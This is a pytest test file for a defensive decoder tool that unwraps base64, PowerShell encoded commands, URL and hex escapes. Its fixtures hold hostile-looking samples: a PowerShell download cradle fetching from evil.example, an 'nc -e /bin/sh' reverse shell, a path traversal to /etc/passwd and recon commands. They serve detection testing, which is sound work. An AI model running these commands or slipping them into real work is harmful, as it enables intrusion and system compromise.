"""Decoders (tools.decode): each one named explicitly, and layer peeling."""

from __future__ import annotations

import base64

import pytest

from core.errors import ValidationFailed
from tools.decode import (
    MAX_INPUT_CHARS,
    bytes_to_text,
    decode_base64,
    decode_hex,
    decode_layers,
    decode_powershell_command,
    decode_url,
    find_encoded_command,
    is_mostly_printable,
)

SCRIPT = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')"
ENCODED = base64.b64encode(SCRIPT.encode("utf-16-le")).decode()


def b64(text: str, *, urlsafe: bool = False, encoding: str = "utf-8") -> str:
    data = text.encode(encoding)
    return (base64.urlsafe_b64encode(data) if urlsafe else base64.b64encode(data)).decode()


# -- base64 --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("encoded", "expected"),
    [
        ("SGVsbG8gd29ybGQ=", "Hello world"),
        ("SGVsbG8gd29ybGQ", "Hello world"),  # padding dropped
        ("SGVsbG8g\nd29y bGQ=", "Hello world"),  # wrapped
        (b64("https://example.com/?q=1&r=>>", urlsafe=True), "https://example.com/?q=1&r=>>"),
        (b64("line one\r\nline two\ttabbed"), "line one\r\nline two\ttabbed"),
        (b64("whoami /all", encoding="utf-16-le"), "whoami /all"),  # Windows' UTF-16LE
        (b64("café olé"), "café olé"),
    ],
)
def test_decode_base64(encoded: str, expected: str) -> None:
    assert decode_base64(encoded) == expected


@pytest.mark.parametrize(
    ("value", "fragment"),
    [
        ("", "nothing to decode"),
        ("not base64!", "not base64"),
        ("abcde", "not base64"),  # a length no base64 string has
        ("ab+c-d_e", "not base64"),  # both alphabets at once
        (base64.b64encode(bytes(range(256))).decode(), "binary data"),
        ("A" * (MAX_INPUT_CHARS + 1), "longer than"),
    ],
)
def test_decode_base64_rejects(value: str, fragment: str) -> None:
    with pytest.raises(ValidationFailed) as caught:
        decode_base64(value)
    assert caught.value.code == "AURORA-4220"
    assert fragment in caught.value.detail[0]["msg"]


def test_decode_base64_rejects_a_non_string() -> None:
    with pytest.raises(ValidationFailed):
        decode_base64(None)  # type: ignore[arg-type]


# -- PowerShell ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "command_line",
    [
        f"powershell.exe -nop -w hidden -enc {ENCODED}",
        f"POWERSHELL.EXE -NoProfile -EncodedCommand {ENCODED}",
        f"pwsh -e {ENCODED}",
        f"powershell -ec {ENCODED}",
        f"powershell -en {ENCODED}",
        f"powershell -encodedc {ENCODED}",
        f"powershell -EnCoDeDcOmMaNd {ENCODED}",
        f"powershell /enc {ENCODED}",
        f"powershell \u2013enc {ENCODED}",  # en dash
        f"powershell \u2014e {ENCODED}",  # em dash
        f'powershell -enc "{ENCODED}"',
        f"powershell -enc '{ENCODED}'",
        f"powershell -ec:{ENCODED}",
        f'cmd.exe /c "powershell -windowstyle hidden -enc {ENCODED}"',
        ENCODED,  # the argument alone
    ],
)
def test_decode_powershell_command(command_line: str) -> None:
    assert decode_powershell_command(command_line) == SCRIPT


@pytest.mark.parametrize(
    "command_line",
    [
        "powershell -nop -w hidden -c Get-Process",
        f"powershell -encodeda {ENCODED}",  # -EncodedArguments, another parameter
        f"powershell -ex {ENCODED}",  # -ExecutionPolicy
        f"powershell -enc {b64('not utf-16')}",
        "nc -e /bin/sh 10.0.0.1 4444",
        "",
    ],
)
def test_decode_powershell_command_rejects(command_line: str) -> None:
    with pytest.raises(ValidationFailed) as caught:
        decode_powershell_command(command_line)
    assert caught.value.detail[0]["loc"] == ["command_line"]


def test_find_encoded_command() -> None:
    assert find_encoded_command(f"powershell -nop -enc {ENCODED} -w hidden") == ENCODED
    assert find_encoded_command("powershell -ExecutionPolicy Bypass -File a.ps1") is None


# -- URL and hex ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("%2e%2e%2fetc%2fpasswd", "../etc/passwd"),
        ("%252e%252e%252fetc%252fpasswd", "../etc/passwd"),  # double-encoded
        ("%25252e%25252e", ".."),  # triple
        ("q=caf%C3%A9", "q=café"),  # UTF-8 escapes
        ("q=caf%E9", "q=café"),  # Latin-1 escapes
        ("a+b%20c", "a+b c"),
    ],
)
def test_decode_url(value: str, expected: str) -> None:
    assert decode_url(value) == expected


def test_decode_url_bounds_and_plus() -> None:
    assert decode_url("%25252e", max_rounds=1) == "%252e"
    assert decode_url("a+b%20c", plus_as_space=True) == "a b c"


@pytest.mark.parametrize("value", ["no escapes here", "100% sure", "", "%00%01%02%03"])
def test_decode_url_rejects(value: str) -> None:
    with pytest.raises(ValidationFailed):
        decode_url(value)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("\\x48\\x65\\x6c\\x6c\\x6f", "Hello"),
        ("0x48 0x65 0x6c 0x6c 0x6f", "Hello"),
        ("0x48,0x65,0x6c,0x6c,0x6f", "Hello"),
        ("0x48656c6c6f", "Hello"),
        ("48656C6C6F", "Hello"),
        ("48:65:6c:6c:6f", "Hello"),
        ("680065006c006c006f00", "hello"),  # UTF-16LE
    ],
)
def test_decode_hex(value: str, expected: str) -> None:
    assert decode_hex(value) == expected


@pytest.mark.parametrize(
    "value", ["zz", "abc", "48656c6c6", "00010203fffe", "", "0x", "\\xZZ\\x41"]
)
def test_decode_hex_rejects(value: str) -> None:
    with pytest.raises(ValidationFailed):
        decode_hex(value)


# -- helpers -------------------------------------------------------------------------------


def test_printable_and_bytes_to_text() -> None:
    assert is_mostly_printable("hello\tworld\r\n")
    assert not is_mostly_printable("")
    assert not is_mostly_printable("\x00\x01\x02abc")
    assert not is_mostly_printable("abc\ufffd")
    assert bytes_to_text(b"\xff\xfeh\x00i\x00") == "hi"
    assert bytes_to_text(b"plain") == "plain"
    assert bytes_to_text(b"") is None
    assert bytes_to_text(bytes(range(256))) is None


# -- layers --------------------------------------------------------------------------------


def test_decode_layers_peels_nested_encodings() -> None:
    inner = b64("whoami /all && net user")
    script = f"$x='{inner}'; IEX([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($x)))"
    outer = f"powershell -nop -enc {b64(script, encoding='utf-16-le')}"
    layers = decode_layers(outer)
    assert [(layer.depth, layer.method) for layer in layers] == [
        (1, "powershell_encoded_command"),
        (2, "base64"),
    ]
    assert layers[0].text == script
    assert layers[1].encoded == inner
    assert layers[1].text == "whoami /all && net user"


def test_decode_layers_base64_of_base64_of_url() -> None:
    layers = decode_layers(b64(b64("%2Fbin%2Fsh%20-i")))
    assert [layer.method for layer in layers] == ["base64", "base64", "url"]
    assert layers[-1].text == "/bin/sh -i"


def test_decode_layers_hex_escapes_in_place() -> None:
    layers = decode_layers("echo -e '\\x63\\x75\\x72\\x6c' evil.sh")
    assert [(layer.method, layer.text) for layer in layers] == [("hex", "echo -e 'curl' evil.sh")]


def test_decode_layers_respects_max_depth() -> None:
    text = b64(b64(b64("deeply nested secret")))
    assert len(decode_layers(text)) == 3
    assert [layer.depth for layer in decode_layers(text, max_depth=2)] == [1, 2]
    assert decode_layers(text, max_depth=0) == []


@pytest.mark.parametrize(
    "text",
    [
        "",
        "   ",
        "hello world",
        "Administrators",  # letters only: a word, not base64
        "44d88612fea8a8f36de82e1278abb02f",  # a hash, not text
        "SGVsbG8",  # too short to tell
        "\x00\x01\x02",
        "A" * (MAX_INPUT_CHARS + 1),
        base64.b64encode(bytes(range(64))).decode(),  # binary payload
    ],
)
def test_decode_layers_leaves_plain_or_binary_text_alone(text: str) -> None:
    assert decode_layers(text) == []


def test_decode_layers_never_raises_on_non_strings() -> None:
    assert decode_layers(None) == []  # type: ignore[arg-type]
    assert decode_layers(b"bytes") == []  # type: ignore[arg-type]
